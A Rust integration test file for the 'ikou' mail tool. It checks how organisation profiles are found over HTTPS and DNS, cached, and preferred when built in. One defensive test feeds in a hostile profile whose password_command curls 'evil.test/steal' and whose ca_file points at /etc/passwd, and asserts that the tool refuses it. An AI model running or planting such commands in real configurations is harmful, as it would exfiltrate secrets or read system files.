//! The organisation's profile found from the address alone, against a real HTTPS server
//! (certificates from the doctor tests' private CA) and a real DNS server (dnsmasq serving
//! `example-univ.test` on loopback): the autoconfig host, the `.well-known` path, the saved
//! copy when the network is gone, the built-in profile winning, and the refusals (commands,
//! local files, invalid profiles, untrusted certificates).

mod doctor_support;

use std::path::Path;
use std::process::{Command, Output};
use std::time::Duration;

use doctor_support::*;

const ADDRESS: &str = "taro@example-univ.test";

fn profile_text(name: &str, extra_old: &str) -> String {
    format!(
        "[organisation]\nname = \"{name}\"\ndomain = \"example-univ.test\"\n[old]\nhost = \"mail.example-univ.test\"\nimap = {{ port = 993, security = \"tls\" }}\n{extra_old}\n[new]\nhost = \"outlook.office365.com\"\nauth = \"xoauth2\"\nimap = {{ port = 993, security = \"tls\" }}\n"
    )
}

fn ok(body: String) -> Reply {
    Reply {
        status: 200,
        content_type: "application/toml",
        body,
    }
}

fn not_found() -> Reply {
    Reply {
        status: 404,
        content_type: "text/plain",
        body: "not found".into(),
    }
}

/// A web server that answers the two profile URLs with `autoconfig` and `well_known`.
fn web(autoconfig: Option<String>, well_known: Option<String>) -> HttpsServer {
    HttpsServer::start(pki().identity("web"), move |_, path, host| {
        let host = host.split(':').next().unwrap_or("");
        match (host, path) {
            ("autoconfig.example-univ.test", "/ikou/profile.toml") => {
                autoconfig.clone().map_or_else(not_found, ok)
            }
            ("example-univ.test", "/.well-known/ikou/profile.toml") => {
                well_known.clone().map_or_else(not_found, ok)
            }
            _ => not_found(),
        }
    })
}

fn zone() -> Dnsmasq {
    Dnsmasq::start(&[
        "host-record=autoconfig.example-univ.test,127.0.0.1".to_string(),
        "host-record=example-univ.test,127.0.0.1".to_string(),
    ])
}

/// `ikou profile find ADDRESS` with the test DNS, port and CA; caches under `home`.
fn find(home: &Path, dns: &str, port: u16, extra: &[&str], json: bool) -> Output {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_ikou"));
    cmd.args(["profile", "find", ADDRESS, "--dns-server", dns])
        .args(["--https-port", &port.to_string(), "--timeout", "3"])
        .args(extra)
        // Not the checkout: its assets/profiles would be searched.
        .current_dir(home)
        .env("HOME", home)
        .env("XDG_CACHE_HOME", home.join("cache"))
        .env("IKOU_PROFILE_DIR", home.join("profiles"))
        .env("LANG", "C")
        .env_remove("IKOU_CACHE_DIR")
        .env_remove("IKOU_CA_FILE")
        .env_remove("IKOU_DNS_SERVER")
        .env_remove("IKOU_HTTPS_PORT");
    if json {
        cmd.arg("--json");
    }
    ikou_testbed::bounded::output_within(&mut cmd, ikou_testbed::bounded::RUN_LIMIT)
}

fn json(out: &Output) -> serde_json::Value {
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}): {}\nstderr: {}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

fn ca() -> String {
    pki().ca.display().to_string()
}

fn cached(home: &Path) -> std::path::PathBuf {
    home.join("cache/ikou/profiles/example-univ.test.toml")
}

#[test]
fn found_at_the_autoconfig_host_saved_and_used_when_the_network_is_gone() {
    let home = tempfile::tempdir().expect("tmp");
    let server = web(Some(profile_text("Autoconfig University", "")), None);
    let dns = zone();
    let out = find(
        home.path(),
        &dns.addr(),
        server.port,
        &["--ca-file", &ca()],
        true,
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report = json(&out);
    let url = format!(
        "https://autoconfig.example-univ.test:{}/ikou/profile.toml",
        server.port
    );
    assert_eq!(report["found"]["origin"]["kind"], "autoconfig");
    assert_eq!(report["found"]["origin"]["url"], url.as_str());
    assert_eq!(report["attempts"][0]["outcome"], "used");
    let saved = std::fs::read_to_string(cached(home.path())).expect("the profile is saved");
    assert!(
        saved.starts_with(&format!("# ikou-origin: {url}\n")),
        "{saved}"
    );
    assert!(saved.contains("Autoconfig University"));
    assert_eq!(
        report["found"]["cached"],
        cached(home.path()).display().to_string().as_str()
    );

    // The text for people names the place it came from.
    let out = find(
        home.path(),
        &dns.addr(),
        server.port,
        &["--ca-file", &ca()],
        false,
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains(&format!(
            "Profile: Autoconfig University — fetched from {url} (checked)"
        )),
        "{text}"
    );

    // A DNS server that never answers: the network is gone, the saved copy is used.
    let (_silent, silent) = silent_udp();
    let out = find(
        home.path(),
        &silent.to_string(),
        server.port,
        &["--ca-file", &ca()],
        true,
    );
    let report = json(&out);
    assert_eq!(out.status.code(), Some(0), "{report:#}");
    assert_eq!(report["found"]["origin"]["kind"], "cache", "{report:#}");
    assert_eq!(report["found"]["origin"]["url"], url.as_str());
    assert!(
        report["attempts"]
            .as_array()
            .expect("attempts")
            .iter()
            .filter(|a| a["place"]
                .as_str()
                .is_some_and(|p| p.starts_with("https://")))
            .all(|a| a["outcome"] == "unreachable"),
        "{report:#}"
    );
}

#[test]
fn no_network_and_no_copy_says_so_and_lists_the_local_files() {
    let home = tempfile::tempdir().expect("tmp");
    let profiles = home.path().join("profiles");
    std::fs::create_dir_all(&profiles).expect("dir");
    // A local profile of another organisation: listed, not chosen.
    std::fs::write(
        profiles.join("other.toml"),
        profile_text("Other", "").replace("example-univ.test\"\n[old]", "other-univ.test\"\n[old]"),
    )
    .expect("write");
    let (_silent, silent) = silent_udp();
    let started = std::time::Instant::now();
    let out = find(home.path(), &silent.to_string(), 443, &[], false);
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "bounded in time"
    );
    assert_eq!(out.status.code(), Some(2));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("No network: the profile for example-univ.test cannot be fetched"),
        "{text}"
    );
    assert!(
        text.contains(&profiles.join("other.toml").display().to_string()),
        "{text}"
    );
    let report = json(&find(home.path(), &silent.to_string(), 443, &[], true));
    assert!(report["found"].is_null());
    assert_eq!(report["local"].as_array().map(Vec::len), Some(1));
    // With a local profile for this domain, that one is used.
    std::fs::write(profiles.join("mine.toml"), profile_text("Mine", "")).expect("write");
    let report = json(&find(home.path(), &silent.to_string(), 443, &[], true));
    assert_eq!(report["found"]["origin"]["kind"], "file", "{report:#}");
    assert!(
        report["found"]["origin"]["path"]
            .as_str()
            .is_some_and(|p| p.ends_with("mine.toml"))
    );
}

#[test]
fn found_at_well_known_when_the_autoconfig_host_has_none() {
    let home = tempfile::tempdir().expect("tmp");
    let server = web(None, Some(profile_text("Well-known University", "")));
    let dns = zone();
    let report = json(&find(
        home.path(),
        &dns.addr(),
        server.port,
        &["--ca-file", &ca()],
        true,
    ));
    assert_eq!(report["attempts"][0]["outcome"], "not-found");
    assert_eq!(report["attempts"][0]["status"], 404);
    assert_eq!(
        report["found"]["origin"]["kind"], "well-known",
        "{report:#}"
    );
    assert_eq!(
        report["found"]["origin"]["url"],
        format!(
            "https://example-univ.test:{}/.well-known/ikou/profile.toml",
            server.port
        )
        .as_str()
    );
}

#[test]
fn a_fetched_profile_that_runs_commands_or_is_invalid_is_refused() {
    let home = tempfile::tempdir().expect("tmp");
    let commands = profile_text(
        "Evil",
        "password_command = \"curl https://evil.test/steal\"\nca_file = \"/etc/passwd\"",
    );
    let invalid = profile_text("Broken", "").replace(
        "port = 993, security = \"tls\" }\n\n[new]",
        "port = 0, security = \"tls\" }\n\n[new]",
    );
    assert!(invalid.contains("port = 0"));
    let server = web(Some(commands), Some(invalid));
    let dns = zone();
    let out = find(
        home.path(),
        &dns.addr(),
        server.port,
        &["--ca-file", &ca()],
        true,
    );
    assert_eq!(out.status.code(), Some(2));
    let report = json(&out);
    assert!(report["found"].is_null(), "{report:#}");
    let keys = |i: usize| -> Vec<String> {
        report["attempts"][i]["problems"]
            .as_array()
            .expect("problems")
            .iter()
            .map(|p| p["key"].as_str().unwrap_or("").to_string())
            .collect()
    };
    assert_eq!(report["attempts"][0]["outcome"], "refused");
    assert_eq!(keys(0), ["old.password_command", "old.ca_file"]);
    assert_eq!(report["attempts"][1]["outcome"], "refused");
    assert_eq!(keys(1), ["old.imap.port"]);
    assert!(
        !cached(home.path()).exists(),
        "a refused profile is not saved"
    );
    let out = find(
        home.path(),
        &dns.addr(),
        server.port,
        &["--ca-file", &ca()],
        false,
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("may not run commands on your computer"),
        "{text}"
    );
    assert!(
        text.contains("may not read files on your computer"),
        "{text}"
    );
    assert!(text.contains("publishes no ikou profile"), "{text}");
}

#[test]
fn an_untrusted_certificate_is_never_accepted() {
    let home = tempfile::tempdir().expect("tmp");
    let server = web(Some(profile_text("U", "")), Some(profile_text("U", "")));
    let dns = zone();
    // Without the test CA the server's certificate is not trusted: nothing is fetched.
    let report = json(&find(home.path(), &dns.addr(), server.port, &[], true));
    assert!(report["found"].is_null(), "{report:#}");
    for attempt in report["attempts"].as_array().expect("attempts") {
        assert_eq!(attempt["outcome"], "unreachable", "{report:#}");
        let detail = attempt["detail"].as_str().unwrap_or("");
        assert!(detail.contains("certificate"), "{detail}");
    }
}

#[test]
fn the_built_in_profile_wins_over_the_network() {
    use ikou::service::find_profile::{FindOptions, Outcome, find};
    let server = web(Some(profile_text("Web University", "")), None);
    let dns = zone();
    let home = tempfile::tempdir().expect("tmp");
    let runtime = tokio::runtime::Runtime::new().expect("runtime");
    let options = |embedded: Option<String>| FindOptions {
        dns_server: Some(dns.addr().parse().expect("addr")),
        https_port: server.port,
        ca_files: vec![pki().ca.clone()],
        timeout: Duration::from_secs(3),
        cache_dir: Some(home.path().join("cache")),
        local_dirs: vec![],
        embedded: embedded.map(|text| ("univ.toml".to_string(), text)),
    };
    // Built in by the IT centre, with a password command (allowed there): used, no request.
    let built_in = profile_text(
        "Built-in University",
        "password_command = \"pass show mail\"",
    );
    let report = runtime
        .block_on(find(ADDRESS, &options(Some(built_in))))
        .expect("find");
    let found = report.found.expect("found");
    assert_eq!(found.profile.organisation.name, "Built-in University");
    assert_eq!(
        serde_json::to_value(&found.origin).expect("json"),
        serde_json::json!({"kind": "embedded", "file": "univ.toml"})
    );
    assert_eq!(report.attempts.len(), 1, "the network was not asked");
    // Built in for another domain: not used, the web server's profile is.
    let other =
        profile_text("Other", "").replace("example-univ.test\"\n[old]", "other-univ.test\"\n[old]");
    let report = runtime
        .block_on(find(ADDRESS, &options(Some(other))))
        .expect("find");
    assert_eq!(
        report.attempts[0].outcome,
        Outcome::OtherDomain {
            domain: "other-univ.test".into()
        }
    );
    let found = report.found.expect("found");
    assert_eq!(found.profile.organisation.name, "Web University");
    // Without one: the web server's.
    let report = runtime
        .block_on(find(ADDRESS, &options(None)))
        .expect("find");
    assert_eq!(
        report.found.expect("found").profile.organisation.name,
        "Web University"
    );
    // An address ikou cannot look up is an error, before any request.
    assert!(runtime.block_on(find("taro", &options(None))).is_err());
}
